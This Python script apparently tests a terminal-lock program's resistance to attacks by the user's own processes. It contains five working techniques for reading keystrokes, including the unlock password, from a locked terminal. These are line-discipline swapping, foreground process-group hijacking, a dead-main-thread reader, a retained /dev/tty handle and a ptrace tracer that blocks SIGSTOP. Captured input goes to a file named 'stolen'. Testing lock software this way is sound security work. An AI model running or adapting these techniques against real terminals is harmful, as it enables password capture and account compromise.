"""What a user's own processes may try against a lock of their terminal: lock-attacks.py ATTACK. Each runs on the terminal that is attacked.

Prints `ready` when it is in place. What it reads from the terminal goes to the file `stolen`.
"""
import ctypes
import fcntl
import os
import signal
import struct
import sys
import termios
import threading
import time

TIOCSETD, N_TTY, N_NULL = 0x5423, 0, 27
libc = ctypes.CDLL(None, use_errno=True)


def keep(data):
    with open("stolen", "ab") as file:
        file.write(data)


def is_locked():
    return os.fstat(0).st_uid == 0


def wait_for_lock():
    while not is_locked():
        time.sleep(0.05)


def into_background():
    """A background job of the shell, in a group of its own, that asks nobody before it changes the terminal."""
    for number in (signal.SIGTTOU, signal.SIGTTIN, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)


def discipline():
    """Takes the line discipline away, which nobody has to have rights for: root can ask the terminal for nothing any more."""
    into_background()
    wait_for_lock()
    for _ in range(8):
        fcntl.ioctl(0, TIOCSETD, struct.pack("i", N_NULL))
        time.sleep(1)
    fcntl.ioctl(0, TIOCSETD, struct.pack("i", N_TTY))


def foreground():
    """Makes itself the foreground and reads."""
    into_background()
    wait_for_lock()
    while True:
        if os.fork() == 0:
            os.setpgid(0, 0)
            os.tcsetpgrp(0, os.getpid())
            while True:
                keep(os.read(0, 100))
        time.sleep(0.7)


def dead_thread():
    """A program in the foreground whose first thread has ended, so that it does not look as if it ran, and a helper that continues it."""
    target = os.getpid()
    if os.fork() == 0:
        os.setsid()
        null = os.open("/dev/null", os.O_RDWR)
        copy = os.dup2(0, 50)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.close(copy)
        while True:
            os.kill(target, signal.SIGCONT)
            time.sleep(0.02)

    def read():
        while True:
            keep(os.read(0, 100))

    threading.Thread(target=read).start()
    libc.pthread_exit(None)


def other_terminal():
    """A process that opened /dev/tty and then got another terminal."""
    if os.fork() != 0:
        return
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    tty = os.open("/dev/tty", os.O_RDWR)
    os.setsid()
    if os.fork() != 0:
        time.sleep(100000)
    os.setsid()
    master, slave = os.openpty()
    fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
    null = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    while True:
        keep(os.read(tty, 100))


def tracer():
    """A program in the foreground whose tracer lets no SIGSTOP through."""
    target = os.fork()
    if target == 0:
        time.sleep(1)
        while True:
            keep(os.read(0, 100))
    if os.fork() == 0:
        os.setpgid(0, 0)
    else:
        os.waitpid(target, 0)
    # The tracer: a background job.
    into_background()
    if libc.ptrace(16, target, None, None) != 0:
        sys.exit("ptrace")
    while True:
        _, status = os.waitpid(target, 0x40000000)
        if not os.WIFSTOPPED(status):
            os._exit(0)
        number = os.WSTOPSIG(status)
        libc.ptrace(7, target, None, None if number == signal.SIGSTOP else ctypes.c_void_p(number))


print("ready", flush=True)
globals()[sys.argv[1]]()
